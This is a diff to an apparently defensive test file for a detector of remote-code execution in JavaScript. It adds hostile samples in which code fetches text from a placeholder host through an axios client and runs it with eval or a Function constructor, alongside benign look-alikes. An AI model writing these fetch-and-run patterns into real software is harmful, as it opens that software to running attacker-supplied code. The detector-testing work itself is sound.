@@ -16,6 +16,28 @@ HOSTILE: dict[str, dict[str, Sample]] = {
             "block",
             ("app.mjs", 2),
         ),
+        "an object of another file asks with the client it was made with": Sample(
+            {
+                "app.js": "const { Prices } = require('./prices');\n"
+                "new Prices(require('axios').create({ timeout: 9 })).load();\n",
+                "prices.js": "class Prices {\n  constructor(client) { this.client = client; }\n"
+                "  async load() {\n    const reply = await this.client.get('https://a.invalid');\n"
+                "    this.show(reply.data);\n  }\n  show(text) { eval(text); }\n}\nmodule.exports = { Prices };\n",
+            },
+            "block",
+            ("prices.js", 7),
+        ),
+        "it runs what the client it was made with throws": Sample(
+            {
+                "app.mjs": "import Prices from './prices.mjs';\nimport axios from 'axios';\n"
+                "new Prices(axios.create()).load();\n",
+                "prices.mjs": "export default class Prices {\n  constructor(client) { this.client = client; }\n"
+                "  async load() {\n    try {\n      await this.client.get('https://a.invalid');\n"
+                "    } catch (no) {\n      new Function.constructor('a', no.response.data)(1);\n    }\n  }\n}\n",
+            },
+            "block",
+            ("prices.mjs", 7),
+        ),
         "methods are called by their keys": js(
             "const after = 'th' + 'en';\nfetch('https://a.invalid')[after]((r) => r['text']())[after](eval);\n"
         ),
@@ -104,6 +126,19 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
     "remote_code": {
         "a name that is spelt with escapes and parses": {
             "app.js": "fetch('https://a.invalid').then((\\u0072) => r.text()).then(\\u0074 => JSON.p\\u{61}rse(t).x);\n"
+        },
+        "it parses what the client it was made with throws": {
+            "app.mjs": "import Prices from './prices.mjs';\nimport axios from 'axios';\n"
+            "new Prices(axios.create()).load();\n",
+            "prices.mjs": "export default class Prices {\n  constructor(client) { this.client = client; }\n"
+            "  async load() {\n    try {\n      await this.client.get('https://a.invalid');\n"
+            "    } catch (problem) {\n      throw new Error(problem.response.data);\n    }\n  }\n}\n",
+        },
+        "it runs what it was made with, which is no client": {
+            "app.js": "const { Prices } = require('./prices');\nrequire('axios').get('https://a.invalid');\n"
+            "new Prices('1 + 1').show();\n",
+            "prices.js": "class Prices {\n  constructor(text) { this.text = text; }\n"
+            "  show() { eval(this.text); }\n}\nmodule.exports = { Prices };\n",
         },
         "a timer with a method bound to what the network gave": {
             "app.js": "const q = require('https').request('https://a.invalid');\nsetTimeout(q.destroy.bind(q), 10);\n"
